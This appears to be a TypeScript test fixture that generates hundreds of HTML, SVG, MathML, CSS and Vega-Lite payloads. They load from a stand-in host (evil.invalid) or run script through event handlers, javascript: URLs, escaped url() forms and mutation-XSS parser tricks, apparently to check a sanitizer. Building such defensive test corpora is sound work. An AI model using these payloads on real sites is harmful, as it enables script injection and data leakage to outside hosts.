/** Markup and chart specs of our own that would load something or run, made by combining places with ways to write it. */
import type { VegaLiteSpec } from '../../src/charts/spec.ts';

const ADDRESS = 'http://evil.invalid/x';

/** A reference as CSS may write it: escapes, case, comments, functions. */
const references = [
  `url(${ADDRESS})`,
  `url("${ADDRESS}")`,
  `URL(${ADDRESS})`,
  `u\\72l(${ADDRESS})`,
  `\\75rl(${ADDRESS})`,
  `\\000075 rl(${ADDRESS})`,
  `\\55 \\52 \\4c(${ADDRESS})`,
  `u\\rl(${ADDRESS})`,
  `url(/**/${ADDRESS})`,
  `url(\\68ttp://evil.invalid/x)`,
  `image-set("${ADDRESS}" 1x)`,
  `-webkit-image-set(url(${ADDRESS}) 1x)`,
  `image(${ADDRESS})`,
  `src("${ADDRESS}")`,
  `cross-fade(url(${ADDRESS}), red)`,
  `url(#a) url(${ADDRESS})`,
  `url(${ADDRESS}#a)`,
];

const attributes = ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'marker-end', 'cursor'];

const quote = (text: string) => text.replaceAll('"', '&quot;');

/** Every presentation attribute with every way to write a reference. */
const presentation = attributes.flatMap((attribute) =>
  references.map((value) => `<svg><rect width="9" height="9" ${attribute}="${quote(value)}"/></svg>`),
);

/** Style attributes, in HTML and in SVG. */
const styled = references.flatMap((value) => [
  `<p style="background: ${quote(value)}">x</p>`,
  `<div style="list-style: ${quote(value)}; color: red">x</div>`,
  `<svg><rect width="9" height="9" style="fill: ${quote(value)}; filter: ${quote(value)}"/></svg>`,
]);

/** Elements that fetch by themselves. */
const fetching = [
  `<img src="${ADDRESS}">`,
  `<img src="data:," srcset="${ADDRESS} 2x">`,
  `<img src="//evil.invalid/x">`,
  `<img src="\\\\evil.invalid/x">`,
  `<picture><source srcset="${ADDRESS}"><img src="data:,"></picture>`,
  `<video poster="${ADDRESS}" src="${ADDRESS}"></video>`,
  `<audio src="${ADDRESS}"></audio>`,
  `<video><source src="${ADDRESS}"><track src="${ADDRESS}" default></video>`,
  `<body background="${ADDRESS}">x</body>`,
  `<table background="${ADDRESS}"><tr><td background="${ADDRESS}">x</table>`,
  `<input type="image" src="${ADDRESS}">`,
  `<object data="${ADDRESS}"></object>`,
  `<embed src="${ADDRESS}">`,
  `<iframe src="${ADDRESS}" srcdoc="<script>ran()</script>"></iframe>`,
  `<frameset><frame src="${ADDRESS}"></frameset>`,
  `<applet code="${ADDRESS}"></applet>`,
  `<link rel="stylesheet" href="${ADDRESS}">`,
  `<link rel="preload" as="image" href="${ADDRESS}">`,
  `<link rel="prefetch" href="${ADDRESS}">`,
  `<link rel="dns-prefetch preconnect" href="${ADDRESS}">`,
  `<link rel="icon" href="${ADDRESS}">`,
  `<link rel="modulepreload" href="${ADDRESS}">`,
  `<link rel="manifest" href="${ADDRESS}">`,
  `<meta http-equiv="refresh" content="0;url=${ADDRESS}">`,
  `<meta http-equiv="Link" content="<${ADDRESS}>; rel=preload">`,
  `<base href="${ADDRESS}/"><img src="y">`,
  `<style>@import "${ADDRESS}";</style>`,
  `<style>body { background: url(${ADDRESS}) }</style>`,
  `<style>@font-face { font-family: x; src: url(${ADDRESS}) } body { font-family: x }</style>`,
  `<svg><style>rect { fill: u\\72l(${ADDRESS}) }</style><rect width="9" height="9"/></svg>`,
  `<svg><style>@\\69mport "${ADDRESS}";</style></svg>`,
  `<svg><image href="${ADDRESS}" width="9" height="9"/></svg>`,
  `<svg><image xlink:href="${ADDRESS}" width="9" height="9"/></svg>`,
  `<svg><use href="${ADDRESS}#a"/></svg>`,
  `<svg><use xlink:href="${ADDRESS}#a"/></svg>`,
  `<svg><filter id="f"><feImage href="${ADDRESS}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  `<svg><pattern id="p" href="${ADDRESS}#q"/><rect fill="url(#p)" width="9" height="9"/></svg>`,
  `<svg><linearGradient id="g" xlink:href="${ADDRESS}#q"/><rect fill="url(#g)" width="9" height="9"/></svg>`,
  `<svg><rect width="9" height="9"><set attributeName="fill" to="url(${ADDRESS})"/></rect></svg>`,
  `<svg><image width="9" height="9"><animate attributeName="href" values="${ADDRESS}"/></image></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:ran()"/><text y="9">x</text></a></svg>`,
  `<svg><foreignObject><img src="${ADDRESS}"></foreignObject></svg>`,
  `<svg><script href="${ADDRESS}"></script></svg>`,
  `<svg><handler type="text/javascript">ran()</handler></svg>`,
  `<svg><text><textPath href="${ADDRESS}#a">x</textPath></text></svg>`,
  `<svg xml:base="${ADDRESS}/"><image href="y" width="9" height="9"/></svg>`,
  `<math><maction actiontype="statusline" xlink:href="${ADDRESS}">x</maction></math>`,
  `<math href="javascript:ran()"><mi>x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src="${ADDRESS}" onerror="ran()"></annotation-xml></math>`,
  `<form action="${ADDRESS}"><button autofocus formaction="${ADDRESS}">x</button></form>`,
  `<a href="${ADDRESS}" ping="${ADDRESS}">x</a>`,
  `<template shadowrootmode="open"><img src="${ADDRESS}"></template>`,
  `<math><mtext><table><mglyph><style><img src="${ADDRESS}" onerror="ran()"></style></mglyph></table></mtext></math>`,
  `<svg></p><style><a title="</style><img src=${ADDRESS} onerror=ran()>"></svg>`,
  `<noembed><img src="${ADDRESS}"></noembed><img src="${ADDRESS}">`,
  `<xmp><img src="${ADDRESS}"></xmp><img src="${ADDRESS}">`,
  `<select><template><img src="${ADDRESS}"></template></select><img src="${ADDRESS}">`,
  `<p><svg><desc><img src="${ADDRESS}" onerror="ran()"></desc></svg></p>`,
  `<button popovertarget="x" onclick="ran()" autofocus>x</button>`,
  `<details open ontoggle="ran()"><summary>x</summary></details>`,
  `<portal src="${ADDRESS}"></portal><fencedframe src="${ADDRESS}"></fencedframe>`,
];

/** All markup. */
export const ownPayloads: readonly string[] = [...presentation, ...styled, ...fetching];

const values = [
  { a: 'A', b: 1 },
  { a: 'B', b: 2 },
];

/** A bar chart with changes. */
function bars(changes: object, mark: object = {}): VegaLiteSpec {
  return {
    $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
    data: { values },
    mark: { type: 'bar', tooltip: true, ...mark },
    encoding: { x: { field: 'a' }, y: { field: 'b', type: 'quantitative' } },
    ...changes,
  } as VegaLiteSpec;
}

/** Specs whose colours, cursors, fonts, links, data and settings are addresses, plain, computed, and from data. */
export const ownSpecs: readonly VegaLiteSpec[] = [
  ...references.flatMap((value) => [
    bars({}, { fill: value, stroke: value, cursor: value }),
    bars(
      {},
      {
        fill: { expr: `'${value.slice(0, 2).replaceAll('\\', '\\\\')}' + ${JSON.stringify(value.slice(2))}` },
      },
    ),
    bars({
      config: { mark: { color: value, cursor: value }, axis: { labelColor: value, titleColor: value } },
    }),
    bars({ background: value, config: { view: { fill: value, stroke: value } } }),
    {
      ...bars({ data: { values: values.map((row) => ({ ...row, c: value })) } }),
      encoding: {
        x: { field: 'a' },
        y: { field: 'b', type: 'quantitative' },
        fill: { field: 'c', scale: null },
        stroke: { field: 'c', scale: null },
      },
    },
  ]),
  bars({}, { type: 'image', url: ADDRESS, width: 9, height: 9 }),
  bars({ data: { url: ADDRESS } }),
  bars({
    usermeta: {
      embedOptions: { actions: true, editorUrl: 'javascript:ran()', loader: {}, renderer: 'canvas' },
    },
  }),
  bars({ usermeta: { embedOptions: { patch: ADDRESS, config: ADDRESS } } }),
  {
    ...bars(
      { data: { values: values.map((row) => ({ ...row, image: ADDRESS })) } },
      { tooltip: { content: 'data' } },
    ),
  },
  bars({ transform: [{ lookup: 'a', from: { data: { url: ADDRESS }, key: 'a', fields: ['c'] } }] }),
  bars({ title: { text: 'x', font: `x; background: url(${ADDRESS})` } }),
];
